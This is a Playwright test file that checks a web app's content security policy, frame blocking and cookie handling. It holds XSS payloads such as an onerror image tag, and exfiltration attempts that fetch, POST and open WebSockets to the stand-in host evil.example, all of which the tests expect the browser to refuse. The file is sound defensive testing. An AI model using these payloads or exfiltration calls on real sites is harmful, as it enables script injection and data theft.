// The page's content policy in force: whoever gets to run something in the page still cannot make text into markup or code,
// nor bring in or send out anything. The browser refuses, says so, and the desk goes on.
import type { Page } from '@playwright/test';

import { expect, test } from '../support/office';

test.use({ officeOf: 'policy' });

/** What the browser says when it refuses. */
const REFUSALS = [/content policy: /, /Content Security Policy|Trusted ?(HTML|Script|Type)/i, /a request to (https|wss):\/\/evil\.example/];

/** Tries each and answers with those that did not throw. */
function allowed(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const element = document.createElement('div');
    const script = document.createElement('script');
    const markup = '<img src=x onerror=alert(1)>';
    const attempts: Record<string, () => unknown> = {
      innerHTML: () => (element.innerHTML = markup),
      outerHTML: () => (document.body.appendChild(element).outerHTML = markup),
      insertAdjacentHTML: () => element.insertAdjacentHTML('beforeend', markup),
      'document.write': () => document.write(markup),
      'document.writeln': () => document.writeln(markup),
      DOMParser: () => new DOMParser().parseFromString(markup, 'text/html'),
      'a fragment of a range': () => document.createRange().createContextualFragment(markup),
      'the document of a frame': () => (document.createElement('iframe').srcdoc = markup),
      'the markup of a shadow': () => (element.attachShadow({ mode: 'open' }).innerHTML = markup),
      'the text of a script': () => (script.text = 'alert(1)'),
      'the content of a script': () => (script.textContent = 'alert(1)'),
      'the inner text of a script': () => (script.innerText = 'alert(1)'),
      'the address of a script': () => (script.src = 'https://evil.example/x.js'),
      'a handler as an attribute': () => element.setAttribute('onclick', 'alert(1)'),
      eval: () => (0, eval)('1'),
      Function: () => new Function('return 1'),
      'a timer with code': () => setTimeout('alert(1)' as unknown as () => void),
      'a worker': () => new Worker('https://evil.example/x.js'),
      'a policy of any name': () => trustedTypes.createPolicy('mine', { createHTML: (text: string) => text }),
      'a default policy': () => trustedTypes.createPolicy('default', { createHTML: (text: string) => text }),
    };
    const succeed = () =>
      Object.entries(attempts).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [name];
        } catch {
          return [];
        }
      });
    // Not at once: what the browser is told by its driver may use eval.
    return new Promise<string[]>((tell) => setTimeout(() => tell(succeed())));
  });
}

test('text becomes neither markup nor code, nothing foreign is loaded, nothing is sent away', async ({ sit, watch }) => {
  watch.expects(...REFUSALS);
  const desk = await sit('ingrid');
  const { page } = desk;
  expect(await allowed(page)).toEqual([]);
  // What does not throw is refused all the same.
  await page.evaluate(() => {
    window.refused = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => window.refused?.push(effectiveDirective));
  });
  const outcome = await page.evaluate(async () => {
    const failed = (promise: Promise<unknown>) => promise.then(() => 'done', () => 'refused');
    const loaded = (element: HTMLElement) =>
      failed(new Promise((done, refused) => {
        element.addEventListener('load', done);
        element.addEventListener('error', refused);
        document.head.append(element);
      }));
    const style = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: 'https://evil.example/x.css' });
    const image = Object.assign(document.createElement('img'), { src: 'https://evil.example/p.png' });
    const inline = Object.assign(document.createElement('style'), { textContent: 'body { opacity: 0 }' });
    document.head.append(inline);
    document.body.setAttribute('style', 'opacity: 0');
    const base = Object.assign(document.createElement('base'), { href: 'https://evil.example/' });
    document.head.append(base);
    return {
      style: await loaded(style),
      image: await loaded(image),
      fetch: await failed(fetch('https://evil.example/?stolen')),
      beacon: await failed(fetch('https://evil.example/', { method: 'POST', mode: 'no-cors', body: 'stolen' })),
      socket: await failed(new Promise((done, refused) => {
        const socket = new WebSocket('wss://evil.example/');
        socket.onopen = done;
        socket.onerror = refused;
      })),
      opacity: getComputedStyle(document.body).opacity,
      worker: await failed(navigator.serviceWorker.register('https://evil.example/x.js')),
      base: document.baseURI === location.href,
    };
  });
  const refused = 'refused';
  expect(outcome).toEqual({ style: refused, image: refused, fetch: refused, beacon: refused, socket: refused, worker: refused, opacity: '1', base: true });
  const rules = await page.evaluate(() => [...new Set(window.refused)].sort());
  expect(rules).toEqual(['base-uri', 'connect-src', 'img-src', 'require-trusted-types-for', 'style-src-attr', 'style-src-elem']);
  // The desk is as it was.
  await desk.list.rows.first().getByRole('link').click();
  await expect(desk.thread.all().first()).toBeVisible();
});

test('no other page shows the desk inside of it', async ({ office, sit, watch }) => {
  watch.expects(/frame|Refused|Content Security Policy|X-Frame-Options/i, /a request to http:\/\/localhost:\d+\/trap/);
  const desk = await sit('ingrid');
  const { page } = desk;
  // A page of another origin, as a hostile site would have it: the other name of this machine.
  await page.route('http://localhost:*/trap', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${office.server.origin}/"></iframe>` }),
  );
  await page.goto(`${office.server.origin.replace('127.0.0.1', 'localhost')}/trap`);
  const frame = page.frameLocator('iframe');
  await expect.poll(() => page.frames().length).toBe(2);
  await expect(frame.getByRole('list', { name: 'Conversations' })).toHaveCount(0);
  expect(page.frames().map((one) => one.url())).not.toContain(`${office.server.origin}/`);
});

declare global {
  interface Window {
    refused?: string[];
  }
  const trustedTypes: { createPolicy: (name: string, rules: { createHTML: (text: string) => string }) => unknown };
}

test('scripts see that somebody is signed in, and nothing that signs in', async ({ office, sit }) => {
  const { page } = await sit('ingrid');
  const tokens = (await page.context().cookies()).filter(({ httpOnly }) => httpOnly).map(({ value }) => value);
  expect(tokens).toHaveLength(1);
  expect(await page.evaluate(() => document.cookie)).toBe('switchboard_signed_in=1');
  const kept = await page.evaluate(async () => {
    const done = <T>(request: IDBRequest<T>) => new Promise<T>((found) => request.addEventListener('success', () => found(request.result)));
    const rows = [];
    for (const { name } of await indexedDB.databases()) {
      const database = await done(indexedDB.open(name ?? ''));
      for (const store of database.objectStoreNames) rows.push(store, await done(database.transaction(store).objectStore(store).getAll()));
      database.close();
    }
    return JSON.stringify({ address: location.href, rows, local: { ...localStorage }, session: { ...sessionStorage } });
  });
  for (const token of tokens) expect(kept).not.toContain(token);
  expect(kept).toContain(office.server.origin);
});
